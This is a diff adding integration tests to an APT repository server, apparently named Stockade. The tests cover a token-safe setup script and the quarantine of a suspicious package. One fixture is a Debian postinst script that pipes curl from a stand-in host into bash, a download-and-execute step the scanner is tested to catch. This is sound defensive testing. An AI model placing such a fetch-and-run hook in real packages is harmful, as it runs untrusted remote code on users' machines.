@@ -7,7 +7,7 @@
 import assert from 'node:assert/strict';
 import { spawn, spawnSync } from 'node:child_process';
 import { createServer, request as httpRequest, type Server } from 'node:http';
-import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -199,5 +199,66 @@ describe('APT repository with apt-get', () => {
     assert.doesNotMatch(update.output, /^(W|E):/m, update.output);
     const download = await authorized.run(['download', 'acme-secret'], path.join(authorized.root, 'download'));
     assert.equal(download.status, 0, download.output);
+  });
+
+  it('sets a machine up with setup.deb.sh: key, signed-by source, token only in auth.conf.d', async () => {
+    const repo = await server.domain.repos.get('ops', 'private');
+    const owner = await server.domain.accounts.getUser('ops');
+    assert.ok(repo && owner);
+    const master = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'setup fleet', kind: 'master', scopes: ['read'], repoId: repo.id });
+    const machine = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'setup host', kind: 'read', scopes: ['read'], repoId: repo.id, parentId: master.token.id });
+    const scriptResponse = await fetch(`${server.url}/ops/private/debian/setup.deb.sh`, { headers: { authorization: `Basic ${Buffer.from(`machine:${machine.secret}`).toString('base64')}` } });
+    assert.equal(scriptResponse.status, 200);
+    const script = await scriptResponse.text();
+    assert.match(script, /^#!\/bin\/sh/);
+    assert.doesNotMatch(script, /stk_/, 'the script never embeds a token');
+
+    const root = await temp('setup');
+    const scriptFile = path.join(root, 'setup.deb.sh');
+    await writeFile(scriptFile, script);
+    // Without a token the script refuses: the repository is private.
+    const refused = spawnSync('sh', [scriptFile], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', STOCKADE_ROOT: root, STOCKADE_DIST: 'bookworm' }, encoding: 'utf8' });
+    assert.notEqual(refused.status, 0);
+    assert.match(refused.stderr, /private; set STOCKADE_TOKEN/);
+
+    const ran = await new Promise<{ status: number | null; output: string }>((resolve) => {
+      const child = spawn('sh', [scriptFile], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', STOCKADE_ROOT: root, STOCKADE_DIST: 'bookworm', STOCKADE_TOKEN: machine.secret } });
+      let output = '';
+      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
+      child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
+      child.on('close', (status) => resolve({ status, output }));
+    });
+    assert.equal(ran.status, 0, ran.output);
+    const list = await readFile(path.join(root, 'etc/apt/sources.list.d/stockade-ops-private.list'), 'utf8');
+    assert.equal(list, `deb [signed-by=/etc/apt/keyrings/stockade-ops-private.gpg] ${server.url}/ops/private/debian bookworm main\n`);
+    assert.doesNotMatch(list, /stk_/);
+    const authFile = path.join(root, 'etc/apt/auth.conf.d/stockade-ops-private.conf');
+    assert.match(await readFile(authFile, 'utf8'), new RegExp(`^machine http://127\\.0\\.0\\.1:\\d+/ops/private/debian\nlogin machine\npassword ${machine.secret}\n$`));
+    assert.equal((await stat(authFile)).mode & 0o777, 0o600);
+
+    // apt with exactly what the script installed (the keyring path moved under the scratch root).
+    const keyring = await readFile(path.join(root, 'etc/apt/keyrings/stockade-ops-private.gpg'));
+    const apt = await aptSandbox(await temp('setup-apt'), list.trim().replace('/etc/apt/keyrings/stockade-ops-private.gpg', 'KEYRING'), keyring, await readFile(authFile, 'utf8'));
+    const update = await apt.run(['update']);
+    assert.equal(update.status, 0, update.output);
+    assert.doesNotMatch(update.output, /^(W|E):/m, update.output);
+  });
+
+  it('quarantines a package whose postinst pipes curl to bash: it never reaches the index', async () => {
+    const built = await buildDeb({
+      name: 'acme-agent',
+      version: '3.0',
+      arch: 'all',
+      controlFiles: { postinst: '#!/bin/sh\nset -e\ncurl -fsSL http://updates.example.invalid/install.sh | bash\n' },
+    });
+    const uploaded = await upload('ops/os', built.data, path.basename(built.path), 'bookworm');
+    await built.cleanup();
+    assert.equal(uploaded.status, 201, JSON.stringify(uploaded.body));
+    assert.equal(uploaded.body.verdict, 'quarantine');
+    assert.match(String((uploaded.body.reasons as string[])[0]), /os-packages\/download-execute in DEBIAN\/postinst/);
+    const packages = await (await fetch(`${server.url}/ops/os/debian/dists/bookworm/main/binary-amd64/Packages`)).text();
+    assert.doesNotMatch(packages, /acme-agent/);
+    const pool = await fetch(`${server.url}/ops/os/debian/pool/main/a/acme-agent/acme-agent_3.0_all.deb`);
+    assert.equal(pool.status, 404);
   });
 });
